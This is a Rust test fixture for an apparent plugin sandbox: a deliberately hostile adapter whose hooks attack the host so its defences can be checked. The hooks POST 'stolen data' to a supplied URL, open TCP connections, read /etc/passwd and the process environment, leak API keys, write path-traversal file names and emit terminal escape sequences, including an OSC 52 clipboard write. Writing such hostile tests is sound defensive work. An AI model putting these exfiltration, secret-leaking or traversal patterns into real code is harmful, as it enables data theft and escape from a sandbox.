//! A hostile adapter for tests: every hook tries to escape the sandbox or
//! exhaust the host. The host must turn each attempt into a clear error (or
//! an empty answer) and keep serving other calls.
//!
//! Hooks (all `execute`, topic = the hook id, params JSON):
//! - `spin`: loops forever on the CPU.
//! - `sleep`: blocks on a 1-hour timer (wall clock, no CPU).
//! - `hog`: allocates and touches `params.mib` MiB (default 1024).
//! - `panic`: panics.
//! - `exfiltrate`: HTTP GET to `params.url` (a host the policy does not allow).
//! - `tcp`: opens a TCP connection to `params.addr` (not allowed).
//! - `steal`: asks the host for other instances' secrets (`params.names`).
//! - `snoop`: reads files, environment variables and arguments.
//! - `flood`: logs `params.lines` lines of `params.size` bytes.
//! - `leak`: reads its own secret `api_key` and puts it in an error message.
//!
//! - `recurse`: recurses without end (stack overflow).
//! - `exit`: calls `std::process::exit`.
//!
//! Plus `ok`, a well-behaved execute hook, a `setup` that spins (to
//! show a setup hook is bounded the same way), and `remember`, which
//! counts what earlier calls left in its memory, then scribbles over 128
//! separate pages of it: every call gets a fresh instance, so it must
//! always find nothing.
//!
//! Vendor-workflow hooks whose answers the host must refuse or bound:
//! - scaffold, one per topic: `escape` (a `../` path next to a fine file),
//!   `absolute` (`/tmp/...`), `huge` (a 24 MiB file), `many` (5,000 files),
//!   `sneaky` (`a/./b`, `a//c`, `..\\x`).
//! - pull: `pull_escape` (product named `../../evil`), `pull_absolute`
//!   (`/tmp/evil`), `pull_huge` (a 24 MiB definition), `pull_many` (5,000
//!   definitions), `pull_invalid` (a definition that is not a product, one
//!   whose `name` disagrees with its folder, one naming an adapter, and a
//!   valid `hostile_ok`).
//!
//! What it returns, or makes the host hold, is hostile too (the host must
//! bound, mask or refuse each; see `host/tests/untrusted_returns.rs`):
//! - setup, one per topic, owning both ends of a `hostile → hostile` plug:
//!   `leaky` (its own `api_key` in a non-secret output, a log line and
//!   nothing else), `mint` (a new secret output whose value it also puts
//!   in a non-secret output), `bigout` (1 MiB of outputs), `hugeout`
//!   (24 MiB of outputs), `longerr` (fails with a 1 MiB error holding
//!   `api_key`), `ansi` (a title and an error full of terminal escapes).
//! - execute: `huge_result` (a 30 MiB JSON result), `many_values` (a
//!   2 MiB JSON result of a million values), `deep_result` (`[` 2,000
//!   deep),
//!   `huge_error` (a 60 MiB error), `fields` (`params.count` wasi:http
//!   fields resources of `params.size` header bytes each, all kept),
//!   `ansi` (terminal escapes in a log line and its error),
//!   `loud` (`params.lines` log lines of `params.size` bytes).
//! - produce `overclaim` (reports 4,294,967,295 records accepted), check
//!   `ansi` (escapes in its detail), watch `burst` (one batch of 20,000
//!   records holding escapes, then the end).
//! - pull `pull_deep` (a 400 KB definition `x: [[[…` 200,000 deep).

use meshroom_sdk::http::Request;
use meshroom_sdk::tcp::TcpLineSender;
use meshroom_sdk::{
    Adapter, CheckReport, Context, Error, File, Hook, Outcome, PlugState, ProduceReport,
    ProductDefinition, Result, Value, Watch, json, log,
};

/// Every escape the terminal tests look for: ESC, a CSI (clear screen,
/// cursor up), an OSC 52 clipboard write (ended by BEL), backspaces and a
/// carriage return overprinting the line.
pub const ESCAPES: &str =
    "\u{1b}[2J\u{1b}[1A\u{1b}]52;c;cHduZWQ=\u{7}evil\u{8}\u{8}\u{8}\u{8}\rplug is UP";

struct Hostile;

impl Adapter for Hostile {
    const PRODUCT: &'static str = "hostile";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");

    fn hooks() -> Vec<Hook> {
        vec![
            Hook::execute("ok", ok).executor().topic("ok"),
            Hook::execute("remember", remember)
                .executor()
                .topic("remember"),
            Hook::execute("spin", spin).executor().topic("spin"),
            Hook::execute("sleep", sleep).executor().topic("sleep"),
            Hook::execute("hog", hog).executor().topic("hog"),
            Hook::execute("panic", panic).executor().topic("panic"),
            Hook::execute("exfiltrate", exfiltrate)
                .executor()
                .topic("exfiltrate"),
            Hook::execute("tcp", tcp).executor().topic("tcp"),
            Hook::execute("steal", steal).executor().topic("steal"),
            Hook::execute("snoop", snoop).executor().topic("snoop"),
            Hook::execute("flood", flood).executor().topic("flood"),
            Hook::execute("leak", leak).executor().topic("leak"),
            Hook::execute("recurse", recurse)
                .executor()
                .topic("recurse"),
            Hook::execute("exit", exit).executor().topic("exit"),
            Hook::setup("spin_setup", spin_setup)
                .consumer()
                .topic("events")
                .owns_both(),
            Hook::scaffold("scaffold_escape", scaffold_escape).topic("escape"),
            Hook::scaffold("scaffold_absolute", scaffold_absolute).topic("absolute"),
            Hook::scaffold("scaffold_huge", scaffold_huge).topic("huge"),
            Hook::scaffold("scaffold_many", scaffold_many).topic("many"),
            Hook::scaffold("scaffold_sneaky", scaffold_sneaky).topic("sneaky"),
            Hook::pull("pull_escape", pull_escape),
            Hook::pull("pull_absolute", pull_absolute),
            Hook::pull("pull_huge", pull_huge),
            Hook::pull("pull_many", pull_many),
            Hook::pull("pull_invalid", pull_invalid),
            Hook::setup("leaky", leaky)
                .consumer()
                .topic("leaky")
                .owns_both(),
            Hook::setup("mint", mint)
                .consumer()
                .topic("mint")
                .owns_both(),
            Hook::setup("bigout", bigout)
                .consumer()
                .topic("bigout")
                .owns_both(),
            Hook::setup("hugeout", hugeout)
                .consumer()
                .topic("hugeout")
                .owns_both(),
            Hook::setup("longerr", longerr)
                .consumer()
                .topic("longerr")
                .owns_both(),
            Hook::setup("ansi_setup", ansi_setup)
                .consumer()
                .topic("ansi")
                .owns_both()
                .title(format!("Configure {ESCAPES} now")),
            Hook::execute("huge_result", huge_result)
                .executor()
                .topic("huge_result"),
            Hook::execute("many_values", many_values)
                .executor()
                .topic("many_values"),
            Hook::execute("deep_result", deep_result)
                .executor()
                .topic("deep_result"),
            Hook::execute("huge_error", huge_error)
                .executor()
                .topic("huge_error"),
            Hook::execute("fields", fields).executor().topic("fields"),
            Hook::execute("ansi", ansi).executor().topic("ansi"),
            Hook::execute("loud", loud).executor().topic("loud"),
            Hook::produce("overclaim", overclaim)
                .producer()
                .topic("overclaim"),
            Hook::check("ansi_check", ansi_check)
                .consumer()
                .topic("ansi"),
            Hook::watch("burst", burst).consumer().topic("burst"),
            Hook::pull("pull_deep", pull_deep),
        ]
    }
}

fn ok(ctx: &Context, params: Value) -> Result<Value> {
    Ok(json!({"ok": true, "instance": ctx.instance()?.name, "params": params}))
}

/// A MiB of static memory (zero in the component's memory image).
static MARKS: [std::sync::atomic::AtomicU8; 1 << 20] =
    [const { std::sync::atomic::AtomicU8::new(0) }; 1 << 20];

fn remember(_ctx: &Context, _params: Value) -> Result<Value> {
    use std::sync::atomic::Ordering::Relaxed;
    let left = MARKS.iter().filter(|m| m.load(Relaxed) != 0).count();
    // One byte every other page: 128 dirty regions, more than one
    // PAGEMAP_SCAN reports at once (vendor/README.md).
    for mark in MARKS.iter().step_by(8192) {
        mark.store(1, Relaxed);
    }
    Ok(json!({"left": left}))
}

fn spin(_ctx: &Context, _params: Value) -> Result<Value> {
    let mut x: u64 = 0;
    loop {
        x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
    }
}

fn spin_setup(_ctx: &Context) -> Result<Outcome> {
    let mut x: u64 = 0;
    loop {
        x = std::hint::black_box(x.wrapping_add(1));
    }
}

fn sleep(_ctx: &Context, _params: Value) -> Result<Value> {
    std::thread::sleep(std::time::Duration::from_secs(3600));
    Ok(json!("woke up"))
}

fn hog(_ctx: &Context, params: Value) -> Result<Value> {
    let mib = params.get("mib").and_then(Value::as_u64).unwrap_or(1024) as usize;
    let mut v: Vec<u8> = Vec::new();
    // Grow in steps and touch every page, so the memory is really used.
    for _ in 0..mib {
        let start = v.len();
        v.resize(start + (1 << 20), 1);
    }
    Ok(json!({"allocated_mib": v.len() >> 20}))
}

fn panic(_ctx: &Context, _params: Value) -> Result<Value> {
    panic!("hostile adapter panicked on purpose");
}

fn exfiltrate(_ctx: &Context, params: Value) -> Result<Value> {
    let url = params
        .get("url")
        .and_then(Value::as_str)
        .unwrap_or("http://example.com/");
    let resp = Request::post(url).body("stolen data").send()?;
    Ok(json!({"status": resp.status, "body": resp.text()}))
}

fn tcp(_ctx: &Context, params: Value) -> Result<Value> {
    let addr = params
        .get("addr")
        .and_then(Value::as_str)
        .unwrap_or("127.0.0.1:22");
    let mut sender = TcpLineSender::connect(addr)?;
    sender.send_line(b"stolen data")?;
    Ok(json!({"sent": true}))
}

fn steal(_ctx: &Context, params: Value) -> Result<Value> {
    let names: Vec<String> = params
        .get("names")
        .and_then(Value::as_array)
        .map(|a| {
            a.iter()
                .filter_map(|v| v.as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default();
    let got: serde_json::Map<String, Value> = names
        .into_iter()
        .map(|n| {
            let v = meshroom_sdk::secret(&n).map_or(Value::Null, Value::String);
            (n, v)
        })
        .collect();
    Ok(Value::Object(got))
}

fn snoop(_ctx: &Context, _params: Value) -> Result<Value> {
    let files: Vec<Value> = ["/etc/passwd", "/proc/self/environ", ".", "/"]
        .iter()
        .map(|p| match std::fs::read_to_string(p) {
            Ok(s) => json!({"path": p, "read": s.len()}),
            Err(e) => json!({"path": p, "error": e.to_string()}),
        })
        .collect();
    let dirs = std::fs::read_dir("/").map(|d| d.count()).ok();
    let env: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
    let args: Vec<String> = std::env::args().collect();
    Ok(json!({"files": files, "read_dir_root": dirs, "env": env, "args": args}))
}

fn flood(_ctx: &Context, params: Value) -> Result<Value> {
    let lines = params
        .get("lines")
        .and_then(Value::as_u64)
        .unwrap_or(10_000);
    let size = params.get("size").and_then(Value::as_u64).unwrap_or(10_000) as usize;
    let line = "x".repeat(size);
    for _ in 0..lines {
        log::info(&line);
        eprintln!("{line}");
    }
    Ok(json!({"logged": lines}))
}

fn leak(ctx: &Context, _params: Value) -> Result<Value> {
    let key = ctx.secret("api_key")?;
    log::warn(&format!("my key is {key}"));
    Err(Error::Failed(format!("leaking the key {key} in an error")))
}

#[allow(unconditional_recursion)]
fn depth(n: u64) -> u64 {
    // black_box keeps the recursion from being turned into a loop.
    std::hint::black_box(depth(std::hint::black_box(n + 1))) + 1
}

fn recurse(_ctx: &Context, _params: Value) -> Result<Value> {
    Ok(json!(depth(0)))
}

fn exit(_ctx: &Context, _params: Value) -> Result<Value> {
    std::process::exit(3)
}

fn file(path: &str, contents: impl Into<Vec<u8>>) -> File {
    File {
        path: path.into(),
        contents: contents.into(),
    }
}

fn scaffold_escape(_ctx: &Context) -> Result<Vec<File>> {
    Ok(vec![
        file("README.md", "fine"),
        file("../../../escaped.txt", "escaped"),
    ])
}

fn scaffold_absolute(_ctx: &Context) -> Result<Vec<File>> {
    Ok(vec![
        file("README.md", "fine"),
        file("/tmp/meshroom-hostile-absolute.txt", "escaped"),
    ])
}

fn scaffold_huge(_ctx: &Context) -> Result<Vec<File>> {
    Ok(vec![
        file("README.md", "fine"),
        file("huge.bin", vec![b'x'; 24 << 20]),
    ])
}

fn scaffold_many(_ctx: &Context) -> Result<Vec<File>> {
    Ok((0..5000)
        .map(|i| file(&format!("f/{i}.txt"), "x"))
        .collect())
}

fn scaffold_sneaky(_ctx: &Context) -> Result<Vec<File>> {
    Ok(vec![
        file("a/./b", "x"),
        file("a//c", "x"),
        file("..\\x", "x"),
    ])
}

fn definition(name: &str, text: impl Into<String>) -> ProductDefinition {
    ProductDefinition {
        name: name.into(),
        definition: text.into(),
    }
}

fn pull_escape(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
    Ok(vec![definition("../../evil", "name: evil\n")])
}

fn pull_absolute(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
    Ok(vec![definition(
        "/tmp/meshroom-hostile-evil",
        "name: evil\n",
    )])
}

fn pull_huge(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
    let mut text = String::from("name: huge\ndescription: ");
    text.push_str(&"x".repeat(24 << 20));
    Ok(vec![definition("huge", text)])
}

fn pull_many(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
    Ok((0..5000)
        .map(|i| definition(&format!("p{i}"), format!("name: p{i}\n")))
        .collect())
}

fn pull_invalid(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
    Ok(vec![
        definition("broken", "- just\n- a list\n"),
        definition("mismatch", "name: someone_else\n"),
        definition(
            "with_adapter",
            "name: with_adapter\nadapter: ../../hostile.wasm\n",
        ),
        definition(
            "hostile_ok",
            "name: hostile_ok\ndescription: the only valid one\nconsumes:\n  events:\n    - mode: push\n",
        ),
    ])
}

fn leaky(ctx: &Context) -> Result<Outcome> {
    let key = ctx.secret("api_key")?;
    log::warn(&format!("setting up with key {key}"));
    Ok(Outcome::new()
        .output("endpoint", "http://127.0.0.1:9/hook")
        .output("token", format!("Bearer {key}")))
}

fn mint(_ctx: &Context) -> Result<Outcome> {
    Ok(Outcome::new()
        .secret("minted", "m1nted-t0ken-value")
        .output("debug", json!({"copy": ["of", "m1nted-t0ken-value"]})))
}

/// A string of `bytes` bytes, allocated once (no doubling past the cap).
fn filler(bytes: usize) -> String {
    let mut s = String::with_capacity(bytes);
    while s.len() < bytes {
        s.push('x');
    }
    s
}

fn bigout(_ctx: &Context) -> Result<Outcome> {
    Ok(Outcome::new().output("blob", filler(1 << 20)))
}

fn hugeout(_ctx: &Context) -> Result<Outcome> {
    // 24 MiB: what the SDK can serialize under the guest's 128 MiB cap.
    Ok(Outcome::new().output("blob", filler(24 << 20)))
}

fn longerr(ctx: &Context) -> Result<Outcome> {
    let key = ctx.secret("api_key")?;
    let mut text = format!("the key {key} was refused; ");
    text.push_str(&filler(1 << 20));
    Err(Error::Failed(text))
}

fn ansi_setup(_ctx: &Context) -> Result<Outcome> {
    log::error(&format!("log {ESCAPES}"));
    Err(Error::Failed(format!("error {ESCAPES}")))
}

fn huge_result(_ctx: &Context, _params: Value) -> Result<Value> {
    // 30 MiB: the largest string the SDK can still serialize under the
    // guest's 128 MiB cap (the text is built twice while it grows).
    Ok(Value::String(filler(30 << 20)))
}

fn many_values(_ctx: &Context, _params: Value) -> Result<Value> {
    // 2 MiB of text, a million values: parsed, ~50 MiB in the host.
    Ok(Value::Array(vec![json!(0); 1_000_000]))
}

fn deep_result(_ctx: &Context, _params: Value) -> Result<Value> {
    // Nested as values, 200,000 deep: serialized by the guest as `[[[…]]]`.
    // (Built iteratively; serde_json serializes it recursively, so keep
    // within the guest's stack: the host's pre-scan is what is tested.)
    let mut v = json!(0);
    for _ in 0..2_000 {
        v = Value::Array(vec![v]);
    }
    Ok(v)
}

fn huge_error(_ctx: &Context, _params: Value) -> Result<Value> {
    Err(Error::Failed(filler(60 << 20)))
}

fn fields(_ctx: &Context, params: Value) -> Result<Value> {
    use wasip2::http::types::Fields;
    let count = params
        .get("count")
        .and_then(Value::as_u64)
        .unwrap_or(1_000_000);
    let size = params.get("size").and_then(Value::as_u64).unwrap_or(2000) as usize;
    let value = vec![b'v'; size];
    let mut kept = Vec::new();
    let mut refused = 0u64;
    for i in 0..count {
        let f = Fields::new();
        if f.append(&format!("x-h{i}"), &value).is_err() {
            refused += 1;
        }
        kept.push(f);
    }
    Ok(json!({"fields": kept.len(), "refused_headers": refused}))
}

fn ansi(_ctx: &Context, _params: Value) -> Result<Value> {
    log::warn(&format!("log {ESCAPES}"));
    Err(Error::Failed(format!("error {ESCAPES}")))
}

fn loud(_ctx: &Context, params: Value) -> Result<Value> {
    let lines = params.get("lines").and_then(Value::as_u64).unwrap_or(100);
    let size = params
        .get("size")
        .and_then(Value::as_u64)
        .unwrap_or(100_000) as usize;
    let line = filler(size);
    for _ in 0..lines {
        log::info(&line);
    }
    Ok(json!({"logged": lines}))
}

fn overclaim(_ctx: &Context, batch: Vec<Vec<u8>>) -> Result<ProduceReport> {
    Ok(ProduceReport {
        accepted: u32::MAX,
        detail: format!("took {} records {ESCAPES}", batch.len()),
    })
}

fn ansi_check(_ctx: &Context) -> Result<CheckReport> {
    Ok(CheckReport::new(
        PlugState::Drifted,
        format!("detail {ESCAPES}"),
    ))
}

struct Burst(bool);

impl Watch for Burst {
    fn next(&mut self) -> Result<Option<Vec<String>>> {
        if std::mem::replace(&mut self.0, true) {
            return Ok(None);
        }
        Ok(Some(
            (0..20_000)
                .map(|i| format!("record {i} {ESCAPES}"))
                .collect(),
        ))
    }
}

fn burst(_ctx: &Context) -> Result<Box<dyn Watch>> {
    Ok(Box::new(Burst(false)))
}

fn pull_deep(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
    Ok(vec![definition(
        "deep",
        format!("name: deep\nx: {}", "[".repeat(200_000)),
    )])
}

meshroom_sdk::export!(Hostile);
